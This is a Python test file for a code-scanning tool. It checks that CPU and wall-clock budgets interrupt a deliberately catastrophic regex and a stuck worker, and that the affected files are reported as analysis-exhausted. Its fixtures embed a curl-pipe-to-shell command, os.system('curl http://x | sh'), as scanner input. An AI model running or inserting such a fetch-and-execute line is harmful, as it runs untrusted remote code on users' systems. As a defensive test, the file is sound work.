"""No file can hold a scan past a hard bound, whatever it does: a step the budget's checks cannot reach (a regex
backtracking in the C engine) is interrupted once the file's CPU seconds are spent (budget_alarm), and a worker
stuck in code that ignores signals is killed by its wall-clock backstop; either way the file is reported
(analysis-exhausted and a skip naming why), never lost, and its neighbours are analyzed as usual."""
from __future__ import annotations

import re
import signal
import time

import pytest

from codescan import pipeline, worker_pool
from codescan.analyze import budget as budgets
from codescan.analyze import budget_alarm, prompt_injection
from codescan.analyze.budget import Budget, OverBudget
from codescan.config import Config
from codescan.records import Analysis, Document, Skip
from codescan.rules import load_rules

CATASTROPHIC = re.compile(r"(a+)+$")  # exponential on a run of a's with a b after it
TRIGGER = "a" * 40 + "b"


def _never(_signum, _frame):
    raise AssertionError("the hard bound did not stop the step")


@pytest.fixture()
def failsafe():
    previous = signal.signal(signal.SIGALRM, _never)
    signal.alarm(60)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


def test_a_regex_backtracking_in_c_is_interrupted_when_the_budget_is_spent(failsafe):
    budget = Budget(0.2)
    start = time.thread_time()
    with pytest.raises(OverBudget) as exc:
        with budgets.running(budget), budget_alarm.armed(budget):
            CATASTROPHIC.match(TRIGGER)
    assert exc.value.bound == budgets.CPU_SECONDS and "interrupted" in exc.value.detail
    assert time.thread_time() - start < 0.2 + budget_alarm.GRACE + 2
    assert signal.getitimer(signal.ITIMER_PROF) == (0.0, 0.0)  # nothing left armed after the document


def test_the_interrupt_comes_back_when_a_broad_except_swallows_it(failsafe):
    budget = Budget(0.1)
    with pytest.raises(OverBudget):
        with budgets.running(budget), budget_alarm.armed(budget):
            try:
                CATASTROPHIC.match(TRIGGER)
            except Exception:  # noqa: BLE001 - as a detector that keeps going after an error would
                pass
            CATASTROPHIC.match(TRIGGER)


def test_a_file_stuck_in_one_regex_is_reported_as_analysis_exhausted(monkeypatch, failsafe):
    from codescan.analyze.document import Analyzer

    monkeypatch.setattr(prompt_injection, "WEAKENING", CATASTROPHIC)
    doc = Document(path="AGENTS.md", content=f"# Rules\n\n{TRIGGER}\n".encode())
    analysis = Analyzer(load_rules(), Config(file_timeout=0.3)).analyze(doc)
    assert "analysis-exhausted" in [f.rule_id for f in analysis.findings]
    assert any("interrupted" in s.reason for s in analysis.skips)


def test_a_worker_stuck_where_signals_are_not_seen_is_killed_and_its_file_named(monkeypatch):
    real = pipeline._safe_analyze

    def stuck(analyzer, doc):
        if doc.path == "stuck.py":
            signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGPROF})  # as C code that never looks at signals
            time.sleep(600)
        return real(analyzer, doc)

    monkeypatch.setattr(pipeline, "_safe_analyze", stuck)  # inherited by the forked workers
    monkeypatch.setattr(worker_pool, "HARD_FACTOR", 1)
    monkeypatch.setattr(worker_pool, "HARD_FLOOR", 1.0)
    docs = [Document(path=f"f{i:03d}.py", content=b"import os\nos.system('curl http://x | sh')\n" + b"x = 1\n" * 100)
            for i in range(150)]
    docs[70] = Document(path="stuck.py", content=b"x = 1\n")
    start = time.monotonic()
    out = list(pipeline.analyze_all(iter(docs), load_rules(), Config(jobs=2, file_timeout=0.5)))
    assert time.monotonic() - start < 120
    results = {a.path: a for a in out if isinstance(a, Analysis)}
    assert not [s for s in out if isinstance(s, Skip)]
    assert len(results) == 150
    assert [f.rule_id for f in results["stuck.py"].findings] == ["analysis-exhausted"]
    assert "hard limit" in results["stuck.py"].skips[0].reason
    assert all(not results[d.path].skips and results[d.path].findings for d in docs if d.path != "stuck.py")
